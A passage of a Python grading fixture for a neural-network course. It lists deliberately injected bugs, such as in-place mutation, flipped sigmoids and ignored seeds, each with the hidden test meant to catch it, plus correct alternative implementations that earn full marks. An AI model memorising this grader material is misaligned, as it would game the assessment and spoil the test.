            said=('exp overflowed',), about="1 / (1 + exp(-x)): the right values, with an overflow warning for x << 0"),
    Example(BUG, "bug_backprop_sigmoid_clips_in_place", P06, Replace(SIGMOID_LINE, CLIPPING_SIGMOID),
            tests("test_hidden_inputs_not_mutated"), about="clips the caller's pre-activations in place"),
    Example(BUG, "bug_sigmoid_class_naive", P06,
            Replace("        return sigmoid(x)\n", "        return 1 / (1 + np.exp(-np.asarray(x, dtype=float)))\n"),
            tests("test_sigmoid_class_values_and_slopes", "test_hidden_activation_classes_match_reference"),
            said=('exp overflowed',), about="Sigmoid()(x) written out as 1 / (1 + exp(-x)): an overflow warning for x << 0"),
    Example(BUG, "bug_relu_in_place", P06,
            Replace("        return np.maximum(0.0, np.asarray(x, dtype=float))\n",
                    "        x = np.asarray(x, dtype=float)\n        x[x < 0] = 0.0  # in the caller's array\n        return x\n"),
            tests("test_hidden_inputs_not_mutated"), about="ReLU()(x) zeroes the caller's negatives in place"),
    Example(BUG, "bug_relu_diff_one_at_zero", P06,
            Replace("(np.asarray(x, dtype=float) > 0).astype(float)", "(np.asarray(x, dtype=float) >= 0).astype(float)"),
            tests("test_relu_values_and_slopes", "test_hidden_activation_classes_match_reference"),
            said=('the slope at exactly 0 is 1',), about="ReLU's slope is 1 at 0 (the contract: 0 at 0 and below)"),
    Example(BUG, "bug_relu_diff_in_place", P06,
            Replace("        return (np.asarray(x, dtype=float) > 0).astype(float)\n",
                    "        x = np.asarray(x, dtype=float)\n        x[x > 0] = 1.0\n        x[x <= 0] = 0.0\n        return x\n"),
            tests("test_hidden_inputs_not_mutated"), about="ReLU().diff(x) overwrites the caller's array with the slopes"),
    Example(BUG, "bug_mse_diff_in_place", P06,
            Replace("        return 2 * (pred - np.asarray(true, dtype=float)) / pred.size\n",
                    "        pred -= np.asarray(true, dtype=float)  # in the caller's array\n        return 2 * pred / pred.size\n"),
            tests("test_hidden_inputs_not_mutated"), about="MSE().diff subtracts from the caller's predictions in place"),
    Example(BUG, "bug_error_term_clips_in_place", P06,
            Replace("    output = np.asarray(output, dtype=float)\n    return (y - output)",
                    "    output = np.asarray(output, dtype=float)\n"
                    "    np.clip(output, 1e-7, 1 - 1e-7, out=output)  # in the caller's array\n    return (y - output)"),
            tests("test_hidden_inputs_not_mutated"), about="error_term_formula clips the caller's outputs in place"),
    Example(BUG, "bug_backprop_step_scales_x_in_place", P06,
            Replace("    delta_w_i_h = learnrate * np.outer(x, hidden_error_term)\n",
                    "    x *= learnrate  # in place: the caller's sample\n    delta_w_i_h = np.outer(x, hidden_error_term)\n"),
            tests("test_hidden_inputs_not_mutated"), about="backprop_step scales the caller's sample by the learning rate"),
    Example(BUG, "bug_mlp_sigmoid_flipped", P05,
            Replace("return np.exp(-np.logaddexp(0.0, -np.asarray(X, dtype=float)))",
                    "return np.exp(-np.logaddexp(0.0, np.asarray(X, dtype=float)))"),
            tests("test_sigmoid_known_values", "test_sigmoid_is_stable_for_huge_inputs",
                  "test_hidden_sigmoid_matches_reference"),
            said=('the exponent takes -x',), about="sigmoid(-X): 1 / (1 + exp(X))"),
    Example(BUG, "bug_backprop_sigmoid_flipped", P06,
            Replace(SIGMOID_LINE, "return np.exp(-np.logaddexp(0.0, np.asarray(x, dtype=float)))"),
            tests("test_sigmoid_known_values", "test_sigmoid_is_finite_for_extreme_inputs",
                  "test_hidden_sigmoid_matches_reference"),
            said=('the exponent takes -x',), about="sigmoid(-x): 1 / (1 + exp(x))"),
    Example(BUG, "bug_train_xor_ignores_seed", P06,
            Replace("rng = np.random.default_rng(seed)", "rng = np.random.default_rng(0)"),
            tests("test_hidden_train_xor_uses_its_seed"), about="train_xor always starts from the weights of seed 0"),
    Example(BUG, "bug_train_xor_ignores_hidden_size", P06, [
        Replace("    W1 = rng.standard_normal((2, hidden_size))\n    b1 = np.zeros(hidden_size)\n"
                "    W2 = rng.standard_normal((hidden_size, 1))\n",
                "    W1 = rng.standard_normal((2, 4))\n    b1 = np.zeros(4)\n    W2 = rng.standard_normal((4, 1))\n")],
            tests("test_hidden_train_xor_solves_xor"), about="train_xor always has 4 hidden units"),
]
BUGS += RULE_BUGS

# -- correct but different: full marks ------------------------------------------------------------
TR_MINIBATCH = ("    X, y = np.asarray(X), np.asarray(y)\n    order = rng.permutation(len(X))\n"
                "    for start in range(0, len(X), batch_size):\n        rows = order[start:start + batch_size]\n"
                "        yield X[rows], y[rows]\n")
TR_INIT = ("        self.W_h = rng.normal(scale=np.sqrt(2.0 / input_size), size=(input_size, hidden_size))\n"
           "        self.b_h = np.zeros(hidden_size)\n"
           "        self.W_o = rng.normal(scale=np.sqrt(2.0 / hidden_size), size=(hidden_size, output_size))\n"
           "        self.b_o = np.zeros(output_size)\n")
RG_INIT = ("        self.weights_input_to_hidden = np.random.normal(0.0, input_nodes ** -0.5, (input_nodes, hidden_nodes))\n"
           "        self.weights_hidden_to_output = np.random.normal(0.0, hidden_nodes ** -0.5, (hidden_nodes, output_nodes))\n")
SOFTMAX_BODY = ("    X = np.asarray(X)\n    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n"
                "    return exp / np.sum(exp, axis=-1, keepdims=True)\n    ### END SOLUTION")
ONE_HOT_BODY = ("    y = np.asarray(y, dtype=int)\n    encoded = np.zeros(y.shape + (n_classes,))\n    if y.ndim == 0:\n"
                "        encoded[y] = 1.0\n    else:\n        encoded[np.arange(len(y)), y] = 1.0\n    return encoded\n"
                "    ### END SOLUTION")
NLL_BODY = ("    log_likelihoods = np.sum(Y_true * np.log(EPSILON + Y_pred), axis=1)\n"
            "    return float(-np.mean(log_likelihoods))\n")
CROSS_ENTROPY_BODY = "    return float(-np.sum(Y * np.log(P) + (1 - Y) * np.log(1 - P)))\n"
WITH_MATH = Replace("import numpy as np\n\nEPSILON", "import math\n\nimport numpy as np\n\nEPSILON", P02)
LR_INIT = ("        self.W = np.random.uniform(size=(input_size, output_size), high=0.1, low=-0.1)\n"
           "        self.b = np.random.uniform(size=output_size, high=0.1, low=-0.1)\n")
MLP_INIT = ("        self.W_h = np.random.uniform(size=(input_size, hidden_size), high=0.01, low=-0.01)\n"
            "        self.b_h = np.zeros(hidden_size)\n"
            "        self.W_o = np.random.uniform(size=(hidden_size, output_size), high=0.01, low=-0.01)\n"
            "        self.b_o = np.zeros(output_size)\n")
LR_TRAIN = ('        self.W = self.W - learning_rate * grads["W"]\n        self.b = self.b - learning_rate * grads["b"]\n')
MLP_TRAIN = ('        self.W_h = self.W_h - learning_rate * grads["W_h"]\n        self.b_h = self.b_h - learning_rate * grads["b_h"]\n'
             '        self.W_o = self.W_o - learning_rate * grads["W_o"]\n        self.b_o = self.b_o - learning_rate * grads["b_o"]\n')

TR_FIT_BODY = """\
    rng = np.random.default_rng(seed)
    velocity = {name: np.zeros_like(getattr(model, name), dtype=float) for name in PARAMETERS}
    history = {"train_loss": [], "val_loss": [], "val_accuracy": [], "best_epoch": 0}
    best_loss, best_parameters, waited = np.inf, None, 0
    for epoch in range(epochs):
        for X_batch, y_batch in minibatches(X_train, y_train, batch_size, rng):
            grads = model.grad_loss(X_batch, y_batch, rng)
            for name in PARAMETERS:
                value, velocity[name] = momentum_step(getattr(model, name), grads[name], velocity[name],
                                                      learning_rate, beta)
                setattr(model, name, value)
        history["train_loss"].append(float(model.loss(X_train, y_train)))
        history["val_loss"].append(float(model.loss(X_val, y_val)))
        history["val_accuracy"].append(float(model.accuracy(X_val, y_val)))
        if history["val_loss"][-1] < best_loss:
            best_loss, waited = history["val_loss"][-1], 0
            history["best_epoch"] = epoch
            best_parameters = {name: np.array(getattr(model, name), copy=True) for name in PARAMETERS}
        else:
            waited += 1
            if waited >= patience:
                break
    if best_parameters is not None:
        for name in PARAMETERS:
            setattr(model, name, best_parameters[name])
    return history
"""
TR_FIT_BY_HAND = """\
    rng = np.random.default_rng(seed)
    X_train, y_train = np.asarray(X_train), np.asarray(y_train)
    velocity = {name: 0.0 for name in PARAMETERS}  # broadcasts to each parameter's shape at the first step
    history = {"train_loss": [], "val_loss": [], "val_accuracy": []}
    best_epoch, stale, snapshot = 0, 0, {}
    for epoch in range(epochs):
        order = rng.permutation(len(X_train))
        X_shuffled, y_shuffled = X_train[order], y_train[order]
        for start in range(0, len(X_shuffled), batch_size):
            grads = model.grad_loss(X_shuffled[start:start + batch_size], y_shuffled[start:start + batch_size], rng)
            for name in PARAMETERS:
                velocity[name] = beta * velocity[name] - learning_rate * grads[name]
                setattr(model, name, getattr(model, name) + velocity[name])
        history["train_loss"].append(model.loss(X_train, y_train))
        history["val_loss"].append(model.loss(X_val, y_val))
        history["val_accuracy"].append(model.accuracy(X_val, y_val))
        if epoch == 0 or history["val_loss"][-1] < min(history["val_loss"][:-1]):
            best_epoch, stale = epoch, 0
            snapshot = {name: getattr(model, name).copy() for name in PARAMETERS}
        else:
            stale += 1
            if stale == patience:
                break
    for name, value in snapshot.items():
        setattr(model, name, value)
    history["best_epoch"] = best_epoch
    return history
"""

VARIANTS = [
    Example(VARIANT, "variant_loops", "", [
        WITH_MATH,
        Replace(SOFTMAX_BODY,
                "    X = np.asarray(X, dtype=float)\n    rows = X.reshape(-1, X.shape[-1])\n"
                "    probabilities = np.empty_like(rows)\n    for i, row in enumerate(rows):\n        top = max(row)\n"
                "        exps = [math.exp(value - top) for value in row]\n        total = sum(exps)\n"
                "        for j, value in enumerate(exps):\n            probabilities[i, j] = value / total\n"
                "    return probabilities.reshape(X.shape)\n    ### END SOLUTION", P02),
        Replace(ONE_HOT_BODY,
                "    labels = np.atleast_1d(np.asarray(y, dtype=int))\n    encoded = np.zeros((len(labels), n_classes))\n"
                "    for row, label in enumerate(labels):\n        encoded[row, label] = 1.0\n"
                "    return encoded[0] if np.ndim(y) == 0 else encoded\n    ### END SOLUTION", P02),
        Replace(NLL_BODY, "    total = 0.0\n    for truth_row, pred_row in zip(Y_true, Y_pred):\n"
                          "        for truth, pred in zip(truth_row, pred_row):\n"
                          "            total += truth * math.log(EPSILON + pred)\n    return -total / len(Y_true)\n", P02),
        Replace(CROSS_ENTROPY_BODY, "    total = 0.0\n    for label, p in zip(Y.ravel(), P.ravel()):\n"
                                    "        total += label * math.log(p) + (1 - label) * math.log(1 - p)\n"
                                    "    return -total\n", P02),
        Replace("    score = np.dot(np.asarray(X, dtype=float), np.asarray(W, dtype=float)) + b\n"
                "    return stepFunction(float(np.squeeze(score)))\n",
                "    score = b\n    for value, weight in zip(np.asarray(X, dtype=float), np.asarray(W, dtype=float).ravel()):\n"
                "        score += value * weight\n    return stepFunction(float(score))\n", P01),
        Replace("    weights = np.asarray(weights, dtype=float) + learnrate * error * x\n    bias = bias + learnrate * error\n"
                "    return weights, float(bias)\n",
                "    new_weights = [w + learnrate * error * value for w, value in zip(np.asarray(weights, dtype=float), x)]\n"
                "    return np.array(new_weights), float(bias + learnrate * error)\n", P03),
        Replace('        grad_z = self.forward(x) - one_hot(self.output_size, y_true)\n'
                '        return {"W": np.outer(x, grad_z), "b": grad_z}\n',
                "        probabilities = self.forward(x)\n        grad_W = np.zeros((len(x), self.output_size))\n"
                "        grad_b = np.zeros(self.output_size)\n        for k in range(self.output_size):\n"
                "            grad_b[k] = probabilities[k] - (1.0 if k == int(y_true) else 0.0)\n"
                "            for i in range(len(x)):\n                grad_W[i, k] = x[i] * grad_b[k]\n"
                '        return {"W": grad_W, "b": grad_b}\n', P04),
        Replace("        grad_h = np.dot(grad_z_o, self.W_o.T)\n",
                "        grad_h = np.array([sum(grad_z_o[k] * self.W_o[j, k] for k in range(len(grad_z_o)))\n"
                "                           for j in range(len(h))])\n", P05),
        Replace("    dZ2 = (A2 - Y) / len(X) * A2 * (1 - A2)\n    dZ1 = (dZ2 @ W2.T) * A1 * (1 - A1)\n"
                '    return {"W1": X.T @ dZ1, "b1": dZ1.sum(axis=0), "W2": A1.T @ dZ2, "b2": dZ2.sum(axis=0)}\n',
                "    W1 = np.asarray(W1, dtype=float)\n"
                '    grads = {"W1": np.zeros_like(W1), "b1": np.zeros(W1.shape[1]), "W2": np.zeros_like(W2),\n'
                '             "b2": np.zeros(W2.shape[1])}\n    for x, target in zip(X, Y):  # one sample at a time\n'
                "        a1 = sigmoid(x @ W1 + b1)\n        a2 = sigmoid(a1 @ W2 + b2)\n"
                "        dz2 = (a2 - target) / len(X) * a2 * (1 - a2)\n        dz1 = (dz2 @ W2.T) * a1 * (1 - a1)\n"
                '        grads["W1"] += np.outer(x, dz1)\n        grads["b1"] += dz1\n'
                '        grads["W2"] += np.outer(a1, dz2)\n        grads["b2"] += dz2\n    return grads\n', P06),
        Replace(TR_MINIBATCH, "    X, y = np.asarray(X), np.asarray(y)\n    order = rng.permutation(len(X))\n    start = 0\n"
                              "    while start < len(order):\n        rows = [int(i) for i in order[start:start + batch_size]]\n"
                              "        yield np.array([X[i] for i in rows]), np.array([y[i] for i in rows])\n"
                              "        start += batch_size\n", P07),
        Replace("    velocity = beta * np.asarray(velocity, dtype=float) - learning_rate * np.asarray(grad, dtype=float)\n"
                "    return np.asarray(param, dtype=float) + velocity, velocity\n",
                "    shape = np.shape(param)\n    new_param, new_velocity = [], []\n"
                "    for p, g, v in zip(np.ravel(param).tolist(), np.ravel(grad).tolist(), np.ravel(velocity).tolist()):\n"
                "        v = beta * v - learning_rate * g\n        new_velocity.append(v)\n        new_param.append(p + v)\n"
                "    return np.array(new_param).reshape(shape), np.array(new_velocity).reshape(shape)\n", P07),
        Replace('        return {\n            "W_h": np.dot(X.T, grad_z_h) + self.l2 * self.W_h,\n'
                '            "b_h": np.sum(grad_z_h, axis=0),\n'
                '            "W_o": np.dot(hidden.T, grad_z_o) + self.l2 * self.W_o,\n'
                '            "b_o": np.sum(grad_z_o, axis=0),\n        }\n',
                '        grads = {"W_h": self.l2 * self.W_h, "b_h": np.zeros(len(self.b_h)), "W_o": self.l2 * self.W_o,\n'
                '                 "b_o": np.zeros(len(self.b_o))}\n'
                '        for x, d_h, h, d_o in zip(X, grad_z_h, hidden, grad_z_o):  # one sample at a time\n'
                '            grads["W_h"] = grads["W_h"] + np.outer(x, d_h)\n            grads["b_h"] = grads["b_h"] + d_h\n'
                '            grads["W_o"] = grads["W_o"] + np.outer(h, d_o)\n            grads["b_o"] = grads["b_o"] + d_o\n'
                '        return grads\n', P07),
        Replace("        grads_w[layer] = np.dot(inputs[layer].T, delta)\n        grads_b[layer] = np.sum(delta, axis=0)\n",
                "        grads_w[layer] = np.zeros((inputs[layer].shape[1], delta.shape[1]))\n"
                "        grads_b[layer] = np.zeros(delta.shape[1])\n"
                "        for a, d in zip(inputs[layer], delta):  # one sample at a time\n"
                "            grads_w[layer] += np.outer(a, d)\n            grads_b[layer] += d\n", P08),
        Replace("    y_true = np.ravel(np.asarray(y_true, dtype=float))\n    y_pred = np.ravel(np.asarray(y_pred, dtype=float))\n"
                "    return float(1.0 - np.sum((y_true - y_pred) ** 2) / np.sum((y_true - np.mean(y_true)) ** 2))\n",
                "    truth, guess = np.ravel(y_true).tolist(), np.ravel(y_pred).tolist()\n    mean = sum(truth) / len(truth)\n"
                "    sse = sum((t - p) ** 2 for t, p in zip(truth, guess))\n    sst = sum((t - mean) ** 2 for t in truth)\n"
                "    return 1.0 - sse / sst\n", P08),
    ], FULL_MARKS, about="loops and Python arithmetic instead of vectorised numpy, in every assignment"),
    Example(VARIANT, "variant_float32", "", [
        Replace(LR_INIT, LR_INIT.replace("low=-0.1)\n", "low=-0.1).astype(np.float32)\n"), P04),
        Replace("        return softmax(np.dot(np.asarray(X), self.W) + self.b)\n",
                "        return softmax(np.dot(np.asarray(X, dtype=self.W.dtype), self.W) + self.b)\n", P04),
        Replace("        x = np.asarray(x, dtype=float)\n        grad_z", "        x = np.asarray(x, dtype=self.W.dtype)\n        grad_z",
                P04),
        Replace(LR_TRAIN, LR_TRAIN.replace('grads["W"]\n', 'grads["W"]).astype(self.W.dtype)\n')
                .replace('grads["b"]\n', 'grads["b"]).astype(self.b.dtype)\n').replace("= self.", "= (self."), P04),
        Replace(MLP_INIT, MLP_INIT.replace("low=-0.01)\n", "low=-0.01).astype(np.float32)\n")
                .replace("_size)\n", "_size, dtype=np.float32)\n"), P05),
        Replace("        z_h = np.dot(np.asarray(X), self.W_h) + self.b_h\n",
                "        z_h = np.dot(np.asarray(X, dtype=self.W_h.dtype), self.W_h) + self.b_h\n", P05),
        Replace("        x = np.asarray(x, dtype=float)\n        y, h, z_h",
                "        x = np.asarray(x, dtype=self.W_h.dtype)\n        y, h, z_h", P05),
        Replace(MLP_TRAIN, "".join(f"        self.{name} = (self.{name} - learning_rate * grads[\"{name}\"]).astype(self.{name}.dtype)\n"
                                   for name in ("W_h", "b_h", "W_o", "b_o")), P05),
        Replace(TR_INIT, TR_INIT.replace("))\n", ")).astype(np.float32)\n").replace("_size)\n", "_size, dtype=np.float32)\n"),
                P07),
        Replace("    return np.maximum(np.asarray(z, dtype=float), 0.0)\n    ### END SOLUTION\n\n\ndef relu_prime",
                "    z = np.asarray(z)\n    return np.maximum(z, np.zeros((), dtype=z.dtype if z.dtype.kind == 'f' else float))\n"
                "    ### END SOLUTION\n\n\ndef relu_prime", P07),
        Replace("    A = np.asarray(A, dtype=float)\n    if not training", "    A = np.asarray(A)\n    if not training", P07),
        Replace("    velocity = beta * np.asarray(velocity, dtype=float) - learning_rate * np.asarray(grad, dtype=float)\n"
                "    return np.asarray(param, dtype=float) + velocity, velocity\n",
                "    param = np.asarray(param)\n"
                "    velocity = (beta * np.asarray(velocity) - learning_rate * np.asarray(grad)).astype(param.dtype)\n"
                "    return param + velocity, velocity\n", P07),
        Replace("        hidden = relu(np.dot(np.asarray(X, dtype=float), self.W_h) + self.b_h)\n",
                "        hidden = relu(np.dot(np.asarray(X, dtype=self.W_h.dtype), self.W_h) + self.b_h)\n", P07),
        Replace("        X = np.asarray(X, dtype=float)\n        z_h = np.dot(X, self.W_h) + self.b_h\n",
                "        X = np.asarray(X, dtype=self.W_h.dtype)\n        z_h = np.dot(X, self.W_h) + self.b_h\n", P07),
        Replace(RG_INIT, RG_INIT.replace("))\n", ")).astype(np.float32)\n"), P08),
        Replace("        hidden = self.activation_function(np.dot(np.asarray(features, dtype=float), self.weights_input_to_hidden))\n",
                "        features = np.asarray(features, dtype=self.weights_input_to_hidden.dtype)\n"
                "        hidden = self.activation_function(np.dot(features, self.weights_input_to_hidden)).astype(features.dtype)\n",
                P08),
        Replace("        self.weights_hidden_to_output = self.weights_hidden_to_output + self.lr * delta_weights_h_o / n_records\n"
                "        self.weights_input_to_hidden = self.weights_input_to_hidden + self.lr * delta_weights_i_h / n_records\n",
                "        self.weights_hidden_to_output = (self.weights_hidden_to_output + self.lr * delta_weights_h_o / n_records\n"
                "                                         ).astype(self.weights_hidden_to_output.dtype)\n"
                "        self.weights_input_to_hidden = (self.weights_input_to_hidden + self.lr * delta_weights_i_h / n_records\n"
                "                                        ).astype(self.weights_input_to_hidden.dtype)\n", P08),
    ], FULL_MARKS, about="models that keep their parameters in float32 and compute in their inputs' dtype (the digits "
                         "are float32)"),
    Example(VARIANT, "variant_lists", "", [
        WITH_MATH,
        Replace(ONE_HOT_BODY,
                "    if np.ndim(y) == 0:\n        return np.array([1.0 if k == int(y) else 0.0 for k in range(n_classes)])\n"
                "    return np.array([[1.0 if k == int(label) else 0.0 for k in range(n_classes)] for label in y])\n"
                "    ### END SOLUTION", P02),
        Replace("    Y = np.asarray(Y, dtype=float)\n    P = np.asarray(P, dtype=float)\n" + CROSS_ENTROPY_BODY,
                "    pairs = zip(np.ravel(Y).tolist(), np.ravel(P).tolist())\n"
                "    return -sum(y * math.log(p) + (1 - y) * math.log(1 - p) for y, p in pairs)\n", P02),
        Replace("    score = np.dot(np.asarray(X, dtype=float), np.asarray(W, dtype=float)) + b\n"
                "    return stepFunction(float(np.squeeze(score)))\n",
                "    weights = [float(row[0]) for row in np.asarray(W, dtype=float).tolist()]\n"
                "    return stepFunction(sum(float(x) * w for x, w in zip(list(X), weights)) + float(b))\n", P01),
        Replace("    y = np.asarray(y, dtype=float)\n    output = np.asarray(output, dtype=float)\n"
                "    return -y * np.log(output) - (1 - y) * np.log(1 - output)\n",
                "    def loss(label, probability):\n"
                "        return -label * math.log(probability) - (1 - label) * math.log(1 - probability)\n\n"
                "    if np.ndim(y) == 0:\n        return loss(float(y), float(output))\n"
                "    return np.array([loss(label, probability) for label, probability in\n"
                "                     zip(np.ravel(y).tolist(), np.ravel(output).tolist())]).reshape(np.shape(y))\n", P03),
        Replace("import numpy as np\n\n\ndef sigmoid", "import math\n\nimport numpy as np\n\n\ndef sigmoid", P03),
        Replace("        return float(np.mean(self.predict(X) == np.asarray(y)))\n",
                "        predicted = np.atleast_1d(self.predict(X)).tolist()\n        labels = np.ravel(y).tolist()\n"
                "        return sum(int(p) == int(t) for p, t in zip(predicted, labels)) / len(labels)\n", P04),
        Replace("        return float(np.mean((np.asarray(pred, dtype=float) - np.asarray(true, dtype=float)) ** 2))\n",
                "        squares = [(p - t) ** 2 for p, t in zip(np.ravel(pred).tolist(), np.ravel(true).tolist())]\n"
                "        return sum(squares) / len(squares)\n", P06),
    ], FULL_MARKS, about="Python lists and comprehensions inside, for array and list inputs alike"),
    Example(VARIANT, "variant_helpers", "", [
        Replace(SOFTMAX_BODY, "    return _normalise(_stable_exp(np.asarray(X, dtype=float)))\n    ### END SOLUTION", P02),
        Replace("def nll(", "def _stable_exp(scores):\n    \"\"\"exp of the scores after each row's max.\"\"\"\n"
                            "    return np.exp(scores - scores.max(axis=-1, keepdims=True))\n\n\n"
                            "def _normalise(values):\n    return values / values.sum(axis=-1, keepdims=True)\n\n\n"
                            "def nll(", P02),
        Replace("import numpy as np\n\nEPSILON = 1e-8\n\n\ndef one_hot",
                "from functools import lru_cache\n\nimport numpy as np\n\nfrom mlp_helpers import layer\n\n"
                "__all__ = ['NeuralNet', 'sigmoid', 'dsigmoid']\nEPSILON = 1e-8\nDEFAULT_HIDDEN = 10\n\n\n"
                "@lru_cache(maxsize=None)\ndef _identity(size):\n    return np.eye(size)\n\n\ndef one_hot", P05),
        Replace("        z_h = np.dot(np.asarray(X), self.W_h) + self.b_h\n        h = sigmoid(z_h)\n"
                "        y = softmax(np.dot(h, self.W_o) + self.b_o)\n",
                "        z_h = layer(X, self.W_h, self.b_h)\n        h = sigmoid(z_h)\n        y = softmax(layer(h, self.W_o, self.b_o))\n",
                P05),
        Replace("        grad_z_o = y - one_hot(self.output_size, y_true)\n",
                "        grad_z_o = y - _identity(self.output_size)[int(y_true)]\n", P05),
        add_files({"05_mlp/mlp_helpers.py": '"""My helpers, imported by mlp.py."""\nimport numpy as np\n\n\n'
                                            "def layer(X, W, b):\n    return np.dot(np.asarray(X), W) + b\n",
                   "05_mlp/README.md": "My notes on the MLP.\n",
                   "01_perceptron/data/points.csv": "0.1,0.2,1\n0.3,0.4,0\n",
                   "02_softmax/__pycache__/softmax.cpython-311.pyc": "not really bytecode\n",
                   "06_backprop/.DS_Store": "junk\n"}),
        Replace("class Sigmoid:", "def plot_loss(losses):\n    \"\"\"A plotting helper the grader never calls.\"\"\"\n"
                                  "    import matplotlib.pyplot as plt\n\n    plt.plot(losses)\n    plt.show()\n\n\n"
                                  "class Layer:\n    \"\"\"Unused: an experiment of mine.\"\"\"\n\n"
                                  "    def __init__(self, size):\n        self.size = size\n\n\n"
                                  "if __name__ == '__main__':\n    print(train_xor())\n\n\nclass Sigmoid:", P06),
        Replace("import numpy as np\n\nEPSILON", "import numpy as np\nfrom backprop_datasets import load_digits_split\n\nEPSILON",
                P04),
        Replace("class LogisticRegression:", "def demo():\n    X_train, X_test, y_train, y_test = load_digits_split()\n"
                                           "    model = LogisticRegression(64, 10)\n"
                                           "    for x, label in zip(X_train, y_train):\n"
                                           "        model.train(x, label, 0.01)\n"
                                           "    return model.accuracy(X_test, y_test)\n\n\nclass LogisticRegression:", P04),
        Replace("def stepFunction(t):", "_seed = 42  # names the grader uses for itself are fine in a module too\n"
                                       "_pin = None\n\n\ndef stepFunction(t):", P01),
    ], FULL_MARKS, about="extra helpers, constants, a helper module, the kit's data loader, a __main__ block and "
                         "stray files"),
    Example(VARIANT, "variant_random_init", "", [
        Replace(LR_INIT, "        self.W = np.random.rand(input_size, output_size) * 0.2 - 0.1\n"
                         "        self.b = np.random.rand(output_size) * 0.2 - 0.1\n", P04),
        Replace(MLP_INIT, "        self.W_h = (2 * np.random.rand(input_size, hidden_size) - 1) * 0.01\n"
                          "        self.b_h = np.zeros(hidden_size)\n"
                          "        self.W_o = (2 * np.random.rand(hidden_size, output_size) - 1) * 0.01\n"
                          "        self.b_o = np.zeros(output_size)\n", P05),
        Replace("    weights = np.random.normal(scale=1 / np.sqrt(n_features), size=n_features)\n",
                "    weights = np.random.uniform(-1, 1, size=n_features) / np.sqrt(n_features)\n", P03),
        Replace("    W1 = rng.standard_normal((2, hidden_size))\n", "    W1 = rng.uniform(-1, 1, (2, hidden_size)) * np.sqrt(6 / (2 + hidden_size))\n", P06),
        Replace("    W2 = rng.standard_normal((hidden_size, 1))\n", "    W2 = rng.uniform(-1, 1, (hidden_size, 1)) * np.sqrt(6 / (hidden_size + 1))\n", P06),
        Replace(RG_INIT, "        self.weights_input_to_hidden = np.random.randn(input_nodes, hidden_nodes) / np.sqrt(input_nodes)\n"
                         "        self.weights_hidden_to_output = np.random.randn(hidden_nodes, output_nodes) / np.sqrt(hidden_nodes)\n",
                P08),
    ], FULL_MARKS, about="other valid random initialisations (rand instead of uniform, Glorot for XOR, randn for the "
                         "regression network)"),
    Example(VARIANT, "variant_training_by_hand", P07, [
        Replace(TR_MINIBATCH, "    X, y = np.asarray(X), np.asarray(y)\n    order = rng.permutation(len(X))\n"
                              "    X_shuffled, y_shuffled = X[order], y[order]  # copies, in the permutation's order\n"
                              "    for start in range(0, len(X), batch_size):\n"
                              "        yield X_shuffled[start:start + batch_size], y_shuffled[start:start + batch_size]\n"),
        Replace(TR_FIT_BODY, TR_FIT_BY_HAND)],
            FULL_MARKS, about="fit that shuffles, slices and steps with momentum itself, calling neither minibatches nor "
                              "momentum_step; minibatches that shuffles copies of the data, then slices them"),
    Example(VARIANT, "variant_regression_output_from_run", P08,
            Replace("        output = np.dot(hidden, self.weights_hidden_to_output)\n        output_error_term",
                    "        output = self.run(features)  # the network's outputs, as run gives them\n"
                    "        output_error_term"),
            FULL_MARKS, about="train takes the network's outputs from run instead of computing them again"),
    Example(VARIANT, "variant_notebooks", "", notebooks, FULL_MARKS,
            about="every assignment as a notebook, with imports of the data, magics, plots and long experiments"),
    Example(VARIANT, "variant_zip", "", zipped(_wrapped_members), FULL_MARKS,
            about="a zip with a wrapping folder, __MACOSX and .DS_Store entries"),
]

# Each rule's freedom, exercised: another stable sigmoid (no warning either), another stable softmax, another
# form of nll, another valid tie-break, other int dtypes, in-place work on copies, loops. Full marks.
PREDICT_LINE = "predicted = np.argmax(self.forward(X), axis=-1)\n"
LAST_MAX = ("probabilities = self.forward(X)  # ties go to the LAST most probable class: as valid as the first\n"
            "        predicted = (probabilities.shape[-1] - 1 - np.argmax(probabilities[..., ::-1], axis=-1)).astype(np.int32)\n")
RULE_VARIANTS = [
    Example(VARIANT, "variant_other_stable_sigmoids", "", [
        Replace(SIGMOID_LINE, "return 0.5 * (1.0 + np.tanh(np.asarray(x, dtype=float) / 2.0))  # tanh: never overflows",
                P03),
        Replace("return np.exp(-np.logaddexp(0.0, -np.asarray(X, dtype=float)))",
                "X = np.asarray(X, dtype=float)\n    out = np.empty_like(X)\n    positive = X >= 0\n"
                "    out[positive] = 1 / (1 + np.exp(-X[positive]))  # exp of a negative number only\n"
                "    e = np.exp(X[~positive])\n    out[~positive] = e / (1 + e)\n    return out", P05),
        Replace(SIGMOID_LINE, "x = np.asarray(x, dtype=float)\n    e = np.exp(-np.abs(x))  # never more than 1\n"
                              "    return np.where(x >= 0, 1 / (1 + e), e / (1 + e))", P06),
        Replace("        return sigmoid(x)\n", "        e = np.exp(-np.abs(np.asarray(x, dtype=float)))\n"
                                               "        return np.where(np.asarray(x) >= 0, 1 / (1 + e), e / (1 + e))\n", P06),
        Replace("    activation = sigmoid(X)\n    return activation * (1 - activation)\n",
                "    return 0.25 / np.cosh(np.clip(np.asarray(X, dtype=float), -700, 700) / 2) ** 2\n", P05),
    ], FULL_MARKS, about="other stable sigmoids: tanh, a masked two-branch form, exp of -|x| only; a cosh derivative"),
    Example(VARIANT, "variant_other_softmax_and_nll", "", [
        Replace(SOFTMAX_BODY, "    X = np.asarray(X, dtype=float)\n    shifted = X - X.max(axis=-1, keepdims=True)\n"
                              "    log_normaliser = np.log(np.sum(np.exp(shifted), axis=-1, keepdims=True))\n"
                              "    return np.exp(shifted - log_normaliser)  # log-sum-exp\n    ### END SOLUTION", P02),
        Replace(NLL_BODY, "    true_class_probability = np.sum(Y_true * Y_pred, axis=1)  # one-hot: the true class's p\n"
                          "    return float(-np.mean(np.log(EPSILON + true_class_probability)))\n", P02),
        Replace(ONE_HOT_BODY, "    return np.eye(n_classes)[np.asarray(y, dtype=int)]\n    ### END SOLUTION", P02),
    ], FULL_MARKS, about="softmax through log-sum-exp, nll through the true class's probability, one_hot from np.eye"),
    Example(VARIANT, "variant_in_place_on_copies", "", [
        Replace(SOFTMAX_BODY, "    X = np.array(X, dtype=float)  # a copy: in-place work is mine\n"
                              "    X -= X.max(axis=-1, keepdims=True)\n    np.exp(X, out=X)\n"
                              "    X /= X.sum(axis=-1, keepdims=True)\n    return X\n    ### END SOLUTION", P02),
        Replace("        return np.maximum(0.0, np.asarray(x, dtype=float))\n",
                "        x = np.array(x, dtype=float)  # a copy\n        x[x < 0] = 0.0\n        return x\n", P06),
